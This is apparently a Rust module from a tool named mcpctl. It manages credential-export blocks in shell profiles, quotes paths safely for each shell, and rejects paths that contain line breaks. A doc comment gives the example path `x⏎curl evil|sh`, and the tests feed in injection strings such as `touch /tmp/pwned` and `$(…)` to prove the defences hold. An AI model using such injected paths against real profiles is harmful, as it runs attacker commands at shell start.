//! Shell integration for env-ref delivery: the exports `mcpctl env`
//! prints, and the block mcpctl manages in a shell's profile.
//!
//! Clients that resolve `${VAR}` need the variable in the environment they
//! start from. The credentials guide puts exports in the shell profile;
//! mcpctl does the same without ever writing a value to disk: the block it
//! manages runs `mcpctl env --shell …`, which reads the store at shell
//! start. The block is delimited by marker lines naming the manifest, so
//! several projects can each own one, and every other byte of the profile
//! is kept. Everything here is pure (text in, text out; paths from a
//! [`Host`]).
//!
//! Paths reach a profile twice: quoted per shell ([`quote`]) on the line
//! that runs `mcpctl env`, and bare on the marker comments that delimit the
//! block. A comment ends at a line break, so a path holding one (a checkout
//! in a directory named `x⏎curl evil|sh`) would put its own line into the
//! profile; [`block`] refuses such a path, and any path that is not UTF-8
//! text (it could not be written back exactly), rather than escape it.
//! Which variable names may be exported at all is [`exportable`]'s concern.

pub mod exportable;

use std::path::{Path, PathBuf};

use crate::host::{Host, Os};
use crate::manifest::Shell;

/// The profile files mcpctl manages a block in for `shell`.
///
/// - zsh: `$ZDOTDIR/.zshrc`, else `~/.zshrc`.
/// - bash: `~/.bash_profile` on macOS (Terminal starts login shells, which
///   skip `~/.bashrc`), `~/.bashrc` elsewhere.
/// - fish: `$XDG_CONFIG_HOME/fish/conf.d/mcpctl.fish` (fish sources every
///   file there), a file of mcpctl's own.
/// - PowerShell: `$PROFILE` (CurrentUserCurrentHost) of both Windows
///   PowerShell 5.1 (`Documents\WindowsPowerShell`) and PowerShell 7
///   (`Documents\PowerShell`) on Windows; PowerShell 7's
///   `~/.config/powershell` elsewhere. A Documents folder redirected
///   elsewhere (OneDrive) is not followed.
pub fn profile_paths(shell: Shell, host: &Host) -> Vec<PathBuf> {
    const PS_PROFILE: &str = "Microsoft.PowerShell_profile.ps1";
    match shell {
        Shell::Zsh => {
            let dir = host
                .var("ZDOTDIR")
                .map_or_else(|| host.home.clone(), PathBuf::from);
            vec![dir.join(".zshrc")]
        }
        Shell::Bash => match host.os {
            Os::Macos => vec![host.home_join(".bash_profile")],
            Os::Linux | Os::Windows => vec![host.home_join(".bashrc")],
        },
        Shell::Fish => vec![
            host.xdg_config_dir()
                .join("fish")
                .join("conf.d")
                .join("mcpctl.fish"),
        ],
        Shell::Powershell => match host.os {
            Os::Windows => {
                let documents = host.home_join("Documents");
                vec![
                    documents.join("WindowsPowerShell").join(PS_PROFILE),
                    documents.join("PowerShell").join(PS_PROFILE),
                ]
            }
            Os::Linux | Os::Macos => {
                vec![host.xdg_config_dir().join("powershell").join(PS_PROFILE)]
            }
        },
    }
}

/// `value` as one literal word of `shell`, safe whatever it contains.
pub fn quote(shell: Shell, value: &str) -> String {
    match shell {
        // POSIX single quotes take everything literally except `'`.
        Shell::Bash | Shell::Zsh => format!("'{}'", value.replace('\'', r"'\''")),
        // fish single quotes: only `\\` and `\'` are escapes.
        Shell::Fish => format!("'{}'", value.replace('\\', r"\\").replace('\'', r"\'")),
        // PowerShell single quotes: a quote is doubled, and the typographic
        // single quotes count as quotes too.
        Shell::Powershell => {
            let mut out = String::from("'");
            for c in value.chars() {
                if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
                    out.push(c);
                }
                out.push(c);
            }
            out.push('\'');
            out
        }
    }
}

/// One line that sets environment variable `name` (a valid variable name)
/// to `value` in `shell`.
pub fn export_line(shell: Shell, name: &str, value: &str) -> String {
    let value = quote(shell, value);
    match shell {
        Shell::Bash | Shell::Zsh => format!("export {name}={value}"),
        Shell::Fish => format!("set -gx {name} {value}"),
        Shell::Powershell => format!("$env:{name} = {value}"),
    }
}

fn begin_marker(manifest: &Path) -> String {
    format!("# >>> mcpctl {} >>>", manifest.display())
}

fn end_marker(manifest: &Path) -> String {
    format!("# <<< mcpctl {} <<<", manifest.display())
}

/// A path the block cannot hold: mcpctl's own or the manifest's.
#[derive(Debug, thiserror::Error, miette::Diagnostic)]
#[error("the {what} `{shown}` {why}, which the block mcpctl keeps in a shell profile cannot hold")]
#[diagnostic(help(
    "move the {what} to a path without line breaks or control characters, or remove `shell-profile` from the manifest; nothing was written"
))]
pub struct BlockError {
    what: &'static str,
    /// The path with its control characters escaped (`\n`).
    shown: String,
    why: &'static str,
}

/// Whether a block can hold `path` on its marker comments.
fn check_holdable(what: &'static str, path: &str) -> Result<(), BlockError> {
    // Every Unicode line terminator, in case some shell honours one.
    let line_breaks = [
        '\n', '\r', '\u{0b}', '\u{0c}', '\u{85}', '\u{2028}', '\u{2029}',
    ];
    let why = if path.contains(line_breaks) {
        "has a line break"
    } else if path.contains(char::is_control) {
        "has a control character"
    } else {
        return Ok(());
    };
    Err(BlockError {
        what,
        shown: path.escape_debug().to_string(),
        why,
    })
}

/// The block for `manifest` in `shell`'s profile: marker lines around a
/// line that evaluates `mcpctl env`. It names only paths, never a value;
/// a path it cannot hold (see the module docs) is an error.
pub fn block(shell: Shell, mcpctl: &str, manifest: &Path) -> Result<String, BlockError> {
    let Some(manifest_text) = manifest.to_str() else {
        return Err(BlockError {
            what: "manifest",
            shown: manifest.display().to_string().escape_debug().to_string(),
            why: "is not UTF-8 text",
        });
    };
    check_holdable("manifest", manifest_text)?;
    check_holdable("mcpctl program", mcpctl)?;
    let exe = quote(shell, mcpctl);
    let file = quote(shell, manifest_text);
    let run = match shell {
        Shell::Bash | Shell::Zsh => {
            format!("eval \"$({exe} env --shell {shell} -f {file})\"")
        }
        Shell::Fish => format!("{exe} env --shell fish -f {file} | source"),
        Shell::Powershell => {
            format!("& {exe} env --shell powershell -f {file} | Out-String | Invoke-Expression")
        }
    };
    Ok(format!(
        "{}\n# Managed by `mcpctl apply`: exports the credentials this project's clients reference.\n{run}\n{}\n",
        begin_marker(manifest),
        end_marker(manifest)
    ))
}

/// The byte range of `manifest`'s block in `text` (marker lines included,
/// through the end marker's line break), if there is one.
fn find(text: &str, manifest: &Path) -> Option<std::ops::Range<usize>> {
    let begin = begin_marker(manifest);
    let end = end_marker(manifest);
    let mut start = None;
    let mut offset = 0;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim_end_matches(['\n', '\r']);
        if start.is_none() && trimmed == begin {
            start = Some(offset);
        } else if let Some(start) = start
            && trimmed == end
        {
            return Some(start..offset + line.len());
        }
        offset += line.len();
    }
    None
}

/// The block of `manifest` in `text`, as it stands.
pub fn current_block<'t>(text: &'t str, manifest: &Path) -> Option<&'t str> {
    find(text, manifest).map(|range| &text[range])
}

/// `text` with `manifest`'s block set to `block` (replaced in place, or
/// appended after a blank line), or removed when `block` is `None`.
/// Every other byte is kept.
pub fn with_block(text: &str, manifest: &Path, block: Option<&str>) -> String {
    match (find(text, manifest), block) {
        (Some(range), Some(block)) => {
            format!("{}{block}{}", &text[..range.start], &text[range.end..])
        }
        (Some(range), None) => {
            let (mut head, tail) = (&text[..range.start], &text[range.end..]);
            // Take back the blank line appending put before a last block.
            if tail.is_empty() && head.ends_with("\n\n") {
                head = &head[..head.len() - 1];
            }
            format!("{head}{tail}")
        }
        (None, Some(block)) => {
            let separator = match text {
                "" => "",
                t if t.ends_with("\n\n") => "",
                t if t.ends_with('\n') => "\n",
                _ => "\n\n",
            };
            format!("{text}{separator}{block}")
        }
        (None, None) => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;

    fn host(os: Os, home: &str, vars: &[(&str, &str)]) -> Host {
        Host {
            os,
            home: PathBuf::from(home),
            vars: vars
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect::<BTreeMap<_, _>>(),
        }
    }

    #[test]
    fn profiles_per_shell_and_os() {
        let linux = host(Os::Linux, "/home/a", &[]);
        let mac = host(Os::Macos, "/Users/a", &[]);
        let win = host(Os::Windows, r"C:\Users\a", &[]);
        assert_eq!(
            profile_paths(Shell::Zsh, &linux),
            [Path::new("/home/a/.zshrc")]
        );
        assert_eq!(
            profile_paths(
                Shell::Zsh,
                &host(Os::Macos, "/Users/a", &[("ZDOTDIR", "/z")])
            ),
            [Path::new("/z/.zshrc")]
        );
        assert_eq!(
            profile_paths(Shell::Bash, &linux),
            [Path::new("/home/a/.bashrc")]
        );
        assert_eq!(
            profile_paths(Shell::Bash, &mac),
            [Path::new("/Users/a/.bash_profile")]
        );
        assert_eq!(
            profile_paths(Shell::Fish, &linux),
            [Path::new("/home/a/.config/fish/conf.d/mcpctl.fish")]
        );
        assert_eq!(
            profile_paths(Shell::Powershell, &mac),
            [Path::new(
                "/Users/a/.config/powershell/Microsoft.PowerShell_profile.ps1"
            )]
        );
        let documents = Path::new(r"C:\Users\a").join("Documents");
        assert_eq!(
            profile_paths(Shell::Powershell, &win),
            [
                documents
                    .join("WindowsPowerShell")
                    .join("Microsoft.PowerShell_profile.ps1"),
                documents
                    .join("PowerShell")
                    .join("Microsoft.PowerShell_profile.ps1")
            ]
        );
    }

    #[test]
    fn quoting_is_literal_in_every_shell() {
        let nasty = "a'b\"c$d`e\\f\u{2019}g\nh";
        assert_eq!(quote(Shell::Bash, nasty), "'a'\\''b\"c$d`e\\f\u{2019}g\nh'");
        assert_eq!(quote(Shell::Fish, nasty), "'a\\'b\"c$d`e\\\\f\u{2019}g\nh'");
        assert_eq!(
            quote(Shell::Powershell, nasty),
            "'a''b\"c$d`e\\f\u{2019}\u{2019}g\nh'"
        );
        assert_eq!(export_line(Shell::Zsh, "T", "v"), "export T='v'");
        assert_eq!(export_line(Shell::Fish, "T", "v"), "set -gx T 'v'");
        assert_eq!(export_line(Shell::Powershell, "T", "v"), "$env:T = 'v'");
    }

    /// Runs the bash export through a real bash, when there is one, and
    /// checks the value arrives byte for byte.
    #[cfg(unix)]
    #[test]
    fn bash_reads_back_what_was_quoted() {
        let value = "x'y\"$(touch /nonexistent)`z`\\n\n!*";
        let script = format!("{}\nprintf %s \"$T\"", export_line(Shell::Bash, "T", value));
        let Ok(out) =
            crate::process::run_to_exit(std::process::Command::new("bash").arg("-c").arg(&script))
        else {
            return;
        };
        assert_eq!(String::from_utf8_lossy(&out.stdout), value);
    }

    /// Issue 12: the marker comments hold the path bare, so a line break
    /// in it would end the comment and put the rest on a line of its own.
    #[test]
    fn a_path_a_block_cannot_hold_is_refused() {
        for path in [
            "/repo\ntouch /tmp/pwned\n/mcpctl.kdl",
            "/repo\r/mcpctl.kdl",
            "/repo\u{2028}x/mcpctl.kdl",
            "/repo\u{1b}[2J/mcpctl.kdl",
        ] {
            for shell in [Shell::Bash, Shell::Zsh, Shell::Fish, Shell::Powershell] {
                let err = block(shell, "/usr/bin/mcpctl", Path::new(path)).unwrap_err();
                let message = err.to_string();
                assert!(message.contains("cannot hold"), "{message}");
                assert!(
                    !message.contains('\n'),
                    "the path is shown escaped: {message}"
                );
            }
        }
        assert!(block(Shell::Bash, "/opt/x\ny/mcpctl", Path::new("/r/mcpctl.kdl")).is_err());
        #[cfg(unix)]
        {
            use std::os::unix::ffi::OsStrExt;
            let not_utf8 = Path::new(std::ffi::OsStr::from_bytes(b"/repo\xff/mcpctl.kdl"));
            assert!(block(Shell::Bash, "/usr/bin/mcpctl", not_utf8).is_err());
        }
    }

    /// Paths with quotes, `$(…)`, backticks and spaces are quoted on the
    /// line that runs `mcpctl env`: a real bash and a POSIX sh source the
    /// block, the program receives the path byte for byte, and nothing in
    /// the path runs. (zsh and fish too, where installed.)
    #[cfg(unix)]
    #[test]
    fn shells_run_the_block_with_the_path_as_one_word() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("ran");
        let nasty = format!(
            "{}/it's $(touch {m}) `touch {m}` a  b\\c\"d;$HOME",
            dir.path().display(),
            m = marker.display()
        );
        fs_err::create_dir_all(&nasty).unwrap();
        let manifest = Path::new(&nasty).join("mcpctl.kdl");
        // A stand-in for mcpctl, itself at a nasty path: it records its
        // arguments, one per line, and prints an export.
        let program = Path::new(&nasty).join("fake mcpctl");
        let args_file = dir.path().join("args");
        fs_err::write(
            &program,
            format!(
                "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\necho 'export SEEN=yes'\n",
                args_file.display()
            ),
        )
        .unwrap();
        fs_err::set_permissions(
            &program,
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
        for (shell, runner, tail) in [
            (Shell::Bash, "bash", "printf %s \"$SEEN\""),
            (Shell::Bash, "sh", "printf %s \"$SEEN\""),
            (Shell::Zsh, "zsh", "printf %s \"$SEEN\""),
            (Shell::Fish, "fish", "printf %s \"$SEEN\""),
        ] {
            let text = block(shell, program.to_str().unwrap(), &manifest).unwrap();
            assert_eq!(text.lines().count(), 4, "{text}");
            let profile = dir.path().join(format!("profile.{runner}"));
            fs_err::write(&profile, &text).unwrap();
            let _ = fs_err::remove_file(&args_file);
            let script = format!(". '{}'\n{tail}", profile.display());
            let Ok(out) = crate::process::run_to_exit(
                std::process::Command::new(runner).arg("-c").arg(&script),
            ) else {
                continue; // not installed
            };
            assert_eq!(
                String::from_utf8_lossy(&out.stdout),
                "yes",
                "{runner}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            let args = fs_err::read_to_string(&args_file).unwrap();
            assert_eq!(
                args,
                format!("env\n--shell\n{shell}\n-f\n{}\n", manifest.display()),
                "{runner}"
            );
            assert!(!marker.exists(), "{runner} ran part of the path");
        }
    }

    #[test]
    fn blocks_are_set_in_place_appended_and_removed() {
        let manifest = Path::new("/repo/mcpctl.kdl");
        let block = block(Shell::Zsh, "/usr/bin/mcpctl", manifest).unwrap();
        assert_eq!(
            block,
            "# >>> mcpctl /repo/mcpctl.kdl >>>\n# Managed by `mcpctl apply`: exports the credentials this project's clients reference.\neval \"$('/usr/bin/mcpctl' env --shell zsh -f '/repo/mcpctl.kdl')\"\n# <<< mcpctl /repo/mcpctl.kdl <<<\n"
        );
        let profile = "export PATH=$HOME/bin:$PATH\nalias ll='ls -l'";
        let added = with_block(profile, manifest, Some(&block));
        assert_eq!(added, format!("{profile}\n\n{block}"));
        assert_eq!(current_block(&added, manifest), Some(block.as_str()));
        let other = Path::new("/other/mcpctl.kdl");
        assert_eq!(current_block(&added, other), None);
        let edited = added.replace("--shell zsh", "--shell bash");
        assert_eq!(with_block(&edited, manifest, Some(&block)), added);
        let mut surrounded = added.clone();
        surrounded.push_str("# after\n");
        let removed = with_block(&surrounded, manifest, None);
        assert_eq!(removed, format!("{profile}\n\n# after\n"));
        assert_eq!(with_block("", manifest, Some(&block)), block);
        let plain = "alias ll='ls -l'\n";
        let round = with_block(plain, manifest, Some(&block));
        assert_eq!(with_block(&round, manifest, None), plain);
    }
}
